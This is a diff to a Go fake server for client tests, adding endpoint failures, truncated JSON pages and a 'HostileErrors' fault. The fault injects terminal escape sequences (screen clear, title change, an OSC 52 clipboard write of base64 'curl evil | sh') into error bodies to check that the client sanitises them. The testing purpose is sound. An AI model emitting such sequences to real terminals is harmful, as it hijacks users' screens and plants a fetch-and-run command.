@@ -72,6 +72,21 @@ type Faults struct {
 	// Authorization header, as a proxy that echoes headers would. A client
 	// must never print what it sent.
 	EchoAuth bool
+	// FailEndpoints maps an endpoint ("images" or "snapshots") to the
+	// status every request to it fails with until the faults change: 404
+	// makes a seed server that predates /snapshots, 400 one that refuses
+	// it. It is checked after auth and validation, before FailOnce.
+	FailEndpoints map[string]int
+	// TruncateOnce lists pages whose first listing (on either endpoint)
+	// is a 200 with its JSON cut in half and a Content-Length that
+	// matches, so the exchange is complete and only the body is bad; later
+	// requests for those pages are answered in full. SetFaults re-arms it.
+	TruncateOnce []int
+	// HostileErrors puts terminal escape sequences (a screen clear, a
+	// cursor move, a title change, an OSC 52 clipboard write) into error
+	// bodies, JSON messages and HTML pages alike, as a hostile or broken
+	// proxy might. A client must show none of them, nor any tail of one.
+	HostileErrors bool
 	// Times, when > 0, limits HTMLError and the listing faults (Delay,
 	// StallBody, HugeBody, CutMidBody, MalformedJSON) to the next Times
 	// responses they shape; after that the server behaves. 0 means they
@@ -98,16 +113,24 @@ func (f Faults) withoutListingFaults() Faults {
 }
 
 // SetFaults replaces the fault set. It restarts the RateLimit countdown and
-// re-arms every FailOnce page. The map is copied; the caller may reuse it.
+// re-arms every FailOnce and TruncateOnce page. The maps and slices are
+// copied; the caller may reuse them.
 func (s *Server) SetFaults(f Faults) {
 	once := maps.Clone(f.FailOnce)
 	f.FailOnce = nil // the armed copy lives in s.failOnce
+	trunc := make(map[int]bool, len(f.TruncateOnce))
+	for _, p := range f.TruncateOnce {
+		trunc[p] = true
+	}
+	f.TruncateOnce = nil // the armed copy lives in s.truncOnce
 	f.FailPages = maps.Clone(f.FailPages)
+	f.FailEndpoints = maps.Clone(f.FailEndpoints)
 	s.mu.Lock()
 	defer s.mu.Unlock()
 	s.faults = f
 	s.rateLeft = f.RateLimit
 	s.failOnce = once
+	s.truncOnce = trunc
 	s.timesLeft = f.Times
 }
 
@@ -139,14 +162,32 @@ func (s *Server) takeFailOnce(page int) int {
 	return status
 }
 
+// takeTruncateOnce reports whether page's listing must be sent truncated
+// now, and disarms it.
+func (s *Server) takeTruncateOnce(page int) bool {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if !s.truncOnce[page] {
+		return false
+	}
+	delete(s.truncOnce, page)
+	return true
+}
+
+// hostile is what Faults.HostileErrors puts into error bodies: a screen
+// clear and cursor home (the "[2J" a careless client leaves behind), a
+// title change, and an OSC 52 write of "curl evil | sh" to the clipboard.
+const hostile = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
+
 // replier writes one response and records its status in the request log
 // before the first byte goes out, so a client that has its answer always
 // finds it logged.
 type replier struct {
-	s     *Server
-	w     http.ResponseWriter
-	entry *Request
-	echo  string // Faults.EchoAuth: the Authorization header to quote in errors
+	s       *Server
+	w       http.ResponseWriter
+	entry   *Request
+	echo    string // Faults.EchoAuth: the Authorization header to quote in errors
+	hostile bool   // Faults.HostileErrors
 }
 
 // echoed appends the quoted Authorization header to an error message.
@@ -185,6 +226,9 @@ type errorBody struct {
 }
 
 func (p replier) sendError(status int, code, message string) {
+	if p.hostile {
+		message = hostile + message
+	}
 	body, _ := json.Marshal(errorBody{Code: code, Message: p.echoed(message)}) // cannot fail for two strings
 	p.sendJSON(status, body)
 }
@@ -209,7 +253,11 @@ func (p replier) sendFailure(status int, f Faults) {
 func (p replier) sendHTML(status int, f Faults) {
 	p.record(status)
 	title := fmt.Sprintf("%d %s", status, http.StatusText(status))
-	body := "<html>\r\n<head><title>" + title + "</title></head>\r\n<body>\r\n<center><h1>" + p.echoed(title) +
+	h1 := p.echoed(title)
+	if p.hostile {
+		h1 = hostile + h1
+	}
+	body := "<html>\r\n<head><title>" + title + "</title></head>\r\n<body>\r\n<center><h1>" + h1 +
 		"</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n"
 	h := p.w.Header()
 	if f.RetryAfter != "" {
